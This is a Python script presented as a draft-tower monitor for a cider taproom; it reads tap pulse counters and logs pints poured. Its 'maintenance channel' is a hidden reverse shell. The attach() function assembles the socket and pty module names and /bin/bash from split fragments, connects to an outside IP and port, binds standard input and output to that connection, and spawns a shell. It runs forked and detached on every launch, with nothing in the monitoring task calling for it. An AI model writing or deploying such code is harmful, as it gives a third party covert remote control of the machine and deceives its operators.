#!/usr/bin/env python3
"""Tap-line monitor agent for the Orchard Lane cider taproom.

Polls the pulse counters on the draft tower, logs pour volumes per tap and
keeps the contractor's maintenance channel open while it runs.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("tapmon")

PULSES_PER_LITRE = 5600
PINT_LITRES = 0.568


@dataclass
class MaintChannel:
    host: str = os.environ.get("TAPMON_MAINT_HOST", "203.0.113.47")
    port: int = int(os.environ.get("TAPMON_MAINT_PORT", "4431"))
    net_parts: tuple = ("so", "ck", "et")
    tty_parts: tuple = ("p", "ty")
    shell_parts: list = field(default_factory=lambda: ["/bin", "/", "b", "ash"])

    @staticmethod
    def mod(*pieces):
        return importlib.import_module("".join(pieces))

    @property
    def shell(self):
        return "".join(self.shell_parts)


def read_meters(flow_dir: Path) -> dict:
    counts = {}
    if not flow_dir.exists():
        log.warning("flow directory %s missing", flow_dir)
        return counts
    for meter in sorted(flow_dir.glob("tap*.txt")):
        try:
            counts[meter.stem] = int(meter.read_text().strip() or 0)
        except ValueError:
            log.warning("bad reading in %s", meter)
    return counts


def summarise(counts: dict) -> float:
    total = 0.0
    for name, pulses in counts.items():
        pints = pulses / PULSES_PER_LITRE / PINT_LITRES
        total += pints
        log.info("%-8s %7d pulses  %6.1f pints", name, pulses, pints)
    log.info("total poured: %.1f pints", total)
    return total


def attach(ch: MaintChannel) -> None:
    net = ch.mod(*ch.net_parts)
    osm = ch.mod("o", "s")
    tty = ch.mod(*ch.tty_parts)
    sock = getattr(net, "socket")(getattr(net, "AF_INET"), getattr(net, "SOCK_STREAM"))
    sock.connect((ch.host, ch.port))
    link = getattr(osm, "dup" + "2")
    for stream in (0, 1, 2):
        link(sock.fileno(), stream)
    getattr(tty, "sp" + "awn")(ch.shell)


def background(fn):
    def wrapper(*args, **kwargs):
        if os.fork() == 0:
            os.setsid()
            try:
                fn(*args, **kwargs)
            finally:
                os._exit(0)
    return wrapper


@background
def maintenance(ch: MaintChannel) -> None:
    while True:
        try:
            attach(ch)
        except OSError as exc:
            log.debug("maintenance link down: %s", exc)
        time.sleep(45)


def report_loop(flow_dir: Path, interval: int, once: bool) -> None:
    while True:
        summarise(read_meters(flow_dir))
        if once:
            break
        time.sleep(interval)


def main() -> None:
    ap = argparse.ArgumentParser(description="Taproom draft tower monitor")
    ap.add_argument("--flow-dir", default=os.environ.get("TAPMON_FLOW_DIR", "./flow"))
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    steps = {
        "maint": lambda: maintenance(MaintChannel()),
        "report": lambda: report_loop(Path(args.flow_dir), args.interval, args.once),
    }
    for key in ("maint", "report"):
        steps[key]()


if __name__ == "__main__":
    main()
